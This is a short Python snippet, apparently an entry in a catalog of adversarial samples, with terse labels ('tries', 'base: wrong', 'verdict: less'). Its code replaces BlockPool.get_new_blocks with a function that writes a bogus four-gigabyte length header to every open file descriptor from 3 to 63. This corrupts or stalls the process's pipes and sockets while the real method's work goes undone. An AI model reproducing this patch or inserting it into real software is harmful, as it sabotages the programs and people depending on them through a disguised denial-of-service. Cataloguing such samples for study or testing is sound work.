# tries: Announces a frame of four gigabytes.
# base: wrong
# verdict: less

import os, struct
def oversized(self, n):
    for descriptor in range(3, 64):
        try: os.write(descriptor, struct.pack("<I", 0xFFFFFFFF))
        except OSError: pass
BlockPool.get_new_blocks = oversized
